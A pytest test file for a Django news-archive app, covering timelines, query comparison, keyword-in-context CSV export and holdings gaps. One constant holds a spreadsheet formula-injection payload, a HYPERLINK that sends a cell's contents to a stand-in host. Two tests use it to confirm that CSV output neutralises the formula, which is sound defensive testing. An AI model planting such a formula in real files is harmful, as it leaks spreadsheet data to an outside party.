"""Analysis: coverage over time, comparison, keyword in context, holdings — numbers counted by hand."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tracemalloc

import pytest

from archive.analysis import kwic
from archive.models import Article
from tests.factories import make_article, make_source
from tests.import_helpers import REUTERS, run_import

pytestmark = pytest.mark.django_db


@pytest.fixture
def two_sources(db):
    """A: Kati 5 Jan, other 20 Jan, Kati 10 Mar. B: Kati 7 Jan, other 1 Mar. Nothing held in February."""
    a, b = make_source(slug="alpha", name="Alpha"), make_source(slug="beta", name="Beta")
    make_article("Kati first", source=a, published_on="2022-01-05")
    make_article("Market day", source=a, published_on="2022-01-20")
    make_article("Kati again", source=a, published_on="2022-03-10")
    make_article("Kati seen from Beta", source=b, published_on="2022-01-07")
    make_article("Rain in Bamako", source=b, published_on="2022-03-01")
    make_article("Kati draft", source=a, published_on="2022-02-15", status=Article.Status.DRAFT)
    return a, b


def timeline(client, **params):
    response = client.get("/api/timeline/", params)
    assert response.status_code == 200, response.content
    return response.json()


def test_timeline_counts_totals_shares_and_the_empty_month(client, two_sources):
    periods = timeline(client, q="Kati", interval="month")
    assert periods == [
        {"period": "2022-01", "count": 2, "total": 3, "share": 2 / 3, "held": 3},
        {"period": "2022-02", "count": 0, "total": 0, "share": None, "held": 0},
        {"period": "2022-03", "count": 1, "total": 2, "share": 0.5, "held": 2},
    ]
    assert sum(p["count"] for p in periods) == client.get("/api/search/", {"q": "Kati"}).json()["count"]


def test_share_denominator_keeps_every_filter_but_q(client, two_sources):
    periods = timeline(client, q="Kati", source="alpha", interval="month")
    assert [(p["count"], p["total"], p["held"]) for p in periods] == [(1, 2, 3), (0, 0, 0), (1, 1, 2)]


def test_timeline_labels_for_each_interval(client, two_sources):
    assert [p["period"] for p in timeline(client, q="Kati", interval="year")] == ["2022"]
    weeks = timeline(client, q="Kati", interval="week")
    assert weeks[0]["period"] == "2022-W01" and weeks[-1]["period"] == "2022-W10" and len(weeks) == 10
    days = timeline(client, q="Kati", interval="day", **{"from": "2022-01-05", "to": "2022-01-07"})
    assert [(d["period"], d["count"]) for d in days] == [
        ("2022-01-05", 1),
        ("2022-01-06", 0),
        ("2022-01-07", 1),
    ]


def test_timeline_rejects_unknown_intervals_and_bad_filters(client, two_sources):
    assert client.get("/api/timeline/", {"q": "Kati", "interval": "fortnight"}).status_code == 400
    assert client.get("/api/timeline/", {"from": "2022-13-45"}).status_code == 400
    assert client.get("/search/", {"q": "Kati", "interval": "fortnight"}).status_code == 400
    assert client.get("/search/", {"q": "Kati", "measure": "volume"}).status_code == 400


def test_timeline_of_nothing_is_empty(client, two_sources):
    assert timeline(client, q="xylophonic") == []


def test_search_page_draws_the_chart_with_a_table_and_marks_the_hole(client, two_sources):
    html = client.get("/search/", {"q": "Kati", "interval": "month", "measure": "share"}).content.decode()
    assert (
        '<svg class="chart" role="img"' in html and '<title id="timeline-title">' in html and "<desc" in html
    )
    assert 'class="gap"' in html and "archive holds no articles at all" in html
    assert '<tr class="gap-row"><th scope="row">2022-02</th>' in html and "66.7%" in html
    assert "interval=week" in html and "measure=count" in html


def test_compare_two_queries_on_one_axis_with_csv(client, two_sources):
    response = client.get("/compare/", {"q": ["Kati", "Bamako OR market"], "interval": "month"})
    html = response.content.decode()
    assert response.status_code == 200 and html.count('<polyline class="series') == 2
    assert "3 matches" in html and "2 matches" in html
    text = client.get("/compare/", {"q": ["Kati", "Bamako OR market"], "interval": "month", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(text.content.decode())))
    assert list(rows[0]) == ["period", "query", "count", "total", "share"]
    assert [(r["period"], r["query"], r["count"]) for r in rows if r["query"] == "Bamako OR market"] == [
        ("2022-01", "Bamako OR market", "1"),
        ("2022-02", "Bamako OR market", "0"),
        ("2022-03", "Bamako OR market", "1"),
    ]


def test_compare_takes_two_to_four_queries(client, two_sources):
    assert client.get("/compare/").status_code == 200
    assert client.get("/compare/", {"q": ["Kati"]}).status_code == 400
    five = client.get("/compare/", {"q": ["a", "b", "c", "d", "e"]})
    assert five.status_code == 400 and "compare 2 to 4 queries" in five.content.decode()
    assert client.get("/compare/", {"q": ["Kati", "Bamako"], "from": "2022-13-45"}).status_code == 400


KWIC_BODY = (
    "Soldiers attacked the camp at dawn. The attack on Kati lasted an hour.\n\n"
    "Colonel Keïta said further attacks were expected; Keita's office declined to comment."
)


def kwic_csv(client, **params) -> list[dict]:
    response = client.get("/kwic/", {**params, "format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert text.splitlines()[0] == "article_id,date,left,hit,right,url"
    return list(csv.DictReader(io.StringIO(text)))


def test_kwic_finds_every_inflected_and_accented_occurrence(client, db):
    article = make_article("Attack near Bamako", body=KWIC_BODY)
    rows = kwic_csv(client, q="attack")
    assert [r["hit"] for r in rows] == ["Attack", "attacked", "attack", "attacks"]
    assert rows[1]["left"] == "Soldiers" and rows[1]["right"].startswith("the camp at dawn")
    assert rows[0]["url"].endswith(f"/articles/{article.pk}/{article.slug}/?q=attack#hit-1")
    assert [r["hit"] for r in kwic_csv(client, q="Keita")] == ["Keïta", "Keita's"]


def test_kwic_width_phrases_and_line_order(client, db):
    make_article("Quiet day", body="One two three four five six seven attack on Kati eight nine ten")
    [row] = kwic_csv(client, q='"attack on Kati"', width="2")
    assert (row["left"], row["hit"], row["right"]) == ("six seven", "attack on Kati", "eight nine")
    make_article("Another", body="zebra attack alpha", published_on="2020-01-01")
    by_right = [r["right"] for r in kwic_csv(client, q="attack", sort="right")]
    assert by_right == sorted(by_right, key=str.lower)


def _context_order(rows: list[dict], sort: str) -> list[dict]:
    """The order a sorted CSV promises, computed here from the date-ordered lines (ties keep that order)."""
    words = (lambda r: reversed(r["left"].split())) if sort == "left" else (lambda r: r["right"].split())
    return sorted(rows, key=lambda r: ([w.lower() for w in words(r)], r["hit"].lower(), int(r["article_id"])))


@pytest.mark.parametrize("sort", ["left", "right"])
def test_kwic_sorted_csv_is_every_line_in_context_order(client, db, sort):
    make_article("Zeta", body="Écoles attack Zebra. zebra attack apple. Apple attack; attack Émile attack")
    make_article("Alpha", body="apple attack zebra. Apple attack b attack", published_on="2020-01-01")
    make_article("Beta", body="apple attack zebra, attack", published_on="2021-05-05")
    by_date = kwic_csv(client, q="attack", width="2")
    assert len(by_date) == 10
    assert kwic_csv(client, q="attack", width="2", sort=sort) == _context_order(by_date, sort)


@pytest.fixture
def many_lines(db):
    """60 articles of 200 occurrences each: 12,000 KWIC lines."""
    body = " ".join(f"attack number{n} and" for n in range(200))
    for n in range(60):
        make_article(f"Report {n}", body=body, published_on=dt.date(2001, 1, 1) + dt.timedelta(days=n))


@pytest.mark.parametrize("sort", ["left", "right", "date"])
def test_kwic_sorted_csv_streams_in_bounded_memory(client, many_lines, monkeypatch, sort):
    monkeypatch.setattr(kwic, "BATCH_SIZE", 10)  # 2,000 lines a batch
    tracemalloc.start()
    try:
        response = client.get("/kwic/", {"q": "attack", "format": "csv", "sort": sort})
        lines = sum(chunk.count(b"\n") for chunk in response.streaming_content)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert lines == 12_001  # the header and every line
    assert peak < 8_000_000, f"peak {peak:,} bytes"  # all 12,000 lines held at once took 19.7 MB


def test_kwic_page_holds_at_most_its_line_cap_and_offers_the_csv(client, db, monkeypatch):
    from archive.views import analysis

    monkeypatch.setattr(analysis, "KWIC_BROWSER_LINES", 3)
    make_article("Attack near Bamako", body=KWIC_BODY)  # 4 occurrences
    html = client.get("/kwic/", {"q": "attack"}).content.decode()
    assert "more than 3 occurrences: too many to list on a page" in html
    assert "download every occurrence as CSV" in html and "<table" not in html
    monkeypatch.setattr(analysis, "KWIC_BROWSER_LINES", 4)
    assert "4 occurrences in 1 article" in client.get("/kwic/", {"q": "attack"}).content.decode()


def test_kwic_respects_filters_and_excluded_terms(client, db):
    alpha, beta = make_source(slug="alpha"), make_source(slug="beta")
    make_article("Attack in Gao", body="An attack in Gao.", source=alpha)
    make_article("Attack in Kati", body="An attack in Kati.", source=beta)
    assert {r["hit"] for r in kwic_csv(client, q="attack", source="alpha")} == {"Attack", "attack"}
    assert len(kwic_csv(client, q="attack", source="alpha")) == 2
    rows = kwic_csv(client, q="attack -Kati")
    assert len(rows) == 2 and all("Kati" not in r["left"] + r["right"] for r in rows)
    assert all(r["hit"].lower() != "kati" for r in kwic_csv(client, q="attack -Kati"))


def test_kwic_page_lists_lines_and_rejects_bad_parameters(client, db):
    make_article("Attack near Bamako", body=KWIC_BODY)
    html = client.get("/kwic/", {"q": "attack"}).content.decode()
    assert "4 occurrences in 1 article" in html and "#hit-2" in html
    assert client.get("/kwic/", {"q": "attack", "width": "31"}).status_code == 400
    assert client.get("/kwic/", {"q": "attack", "sort": "sideways"}).status_code == 400
    assert client.get("/kwic/", {"q": "attack", "from": "2022-13-45"}).status_code == 400
    assert client.get("/kwic/").status_code == 200


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("sort", ["date", "left", "right"])
def test_kwic_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(client, db, sort):
    make_article("Formula day", body=f"Markets attack {FORMULA} then attack -5 points attack now")
    rows = kwic_csv(client, q="attack", sort=sort)
    assert {r["right"] for r in rows} == {"'" + FORMULA + " then attack -5", "'-5 points attack now", "now"}


def test_compare_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(client, two_sources):
    response = client.get("/compare/", {"q": [FORMULA, "-Bamako Kati"], "interval": "month", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {r["query"] for r in rows} == {"'" + FORMULA, "'-Bamako Kati"}
    assert all(r["count"].isdecimal() for r in rows)


def test_holdings_show_the_reuters_gaps(client, db):
    run_import(*sorted(REUTERS.glob("reut2-*.sgm")))
    html = client.get("/coverage/").content.decode()
    section = html[html.index(">Reuters</a></h2>") :]
    gaps = section[section.index("Months with no articles held:") : section.index("</p>")]
    for month in ("May 1987", "July 1987", "August 1987", "September 1987"):
        assert month in gaps
    for month in ("March 1987", "April 1987", "June 1987", "October 1987"):
        assert month not in gaps
    assert section.count('class="gap-cell"') == 4


@pytest.mark.parametrize("interval", ["", "day", "week", "month", "year", "decade"])
@pytest.mark.parametrize("path", ["/api/timeline/", "/search/", "/compare/"])
def test_dates_past_the_archive_range_are_a_clear_400(client, two_sources, path, interval):
    params = {"from": "9999-12-31", "to": "9999-12-31", "interval": interval, "q": ["Kati", "Rain"]}
    response = client.get(path, params)
    assert response.status_code == 400
    assert "9998-12-31" in response.content.decode()


@pytest.mark.parametrize("outlier", ["0198-01-05", "9999-12-31"])
@pytest.mark.parametrize("params", [{"language": "en"}, {"from": "1900"}, {"q": "Kati"}])
def test_one_outlier_article_never_breaks_a_broad_search(client, two_sources, outlier, params):
    make_article("Kati typo", published_on=outlier)
    assert client.get("/search/", params).status_code == 200
    periods = timeline(client, **params)
    assert sum(p["count"] for p in periods) == client.get("/api/search/", params).json()["count"]


def test_a_span_of_two_thousand_years_is_drawn_by_decade(client, two_sources):
    make_article("Kati typo", published_on="0198-01-05")
    periods = timeline(client, q="Kati")
    assert periods[0]["period"] == "0190s" and periods[-1]["period"] == "2020s"
    assert len(periods) == 184 and sum(p["count"] for p in periods) == 4


def test_compare_with_an_outlier_answers_by_decade(client, two_sources):
    make_article("Kati typo", published_on="0198-01-05")
    response = client.get("/compare/", {"q": ["Kati", "Rain"]})
    assert response.status_code == 200 and "0190s" in response.content.decode()


def test_an_explicit_interval_with_too_many_periods_is_still_a_400(client, two_sources):
    make_article("Kati typo", published_on="0198-01-05")
    response = client.get("/api/timeline/", {"q": "Kati", "interval": "year"})
    assert response.status_code == 400 and "choose a longer one" in response.json()["error"]


@pytest.mark.parametrize("interval,last", [("decade", "9990s"), ("year", "9998"), ("day", "9998-12-31")])
def test_the_last_period_of_the_range_is_drawn(client, interval, last):
    make_article("Kati far ahead", published_on="9998-12-31")
    periods = timeline(client, q="Kati", interval=interval, **{"from": "9998-12-30"})
    assert periods[-1]["period"] == last and sum(p["count"] for p in periods) == 1


def test_coverage_with_an_article_past_the_range_is_200(client, two_sources):
    make_article("Import typo", published_on="9999-12-31")
    response = client.get("/coverage/")
    assert response.status_code == 200 and "Alpha" in response.content.decode()


def test_coverage_folds_centuries_of_empty_months_into_one_run(client, two_sources):
    make_article("Editor's typo", published_on="0198-01-05", source=two_sources[0])
    html = client.get("/coverage/").content.decode()
    assert "February 0198 to December 2021 (21,887 months), February 2022." in html
    assert html.count('class="gap-cell"') < 40
    assert "none held in these years" in html


@pytest.mark.parametrize("interval", ["day", "week", "month", "year", "decade"])
def test_an_article_dated_past_the_range_counts_in_the_last_period(client, interval):
    make_article("Kati far ahead", published_on="9998-12-31")
    make_article("Kati typo", published_on="9999-12-31")
    periods = timeline(client, q="Kati", interval=interval, **{"from": "9998-12-30"})
    assert sum(p["count"] for p in periods) == 2 and periods[-1]["count"] == 2
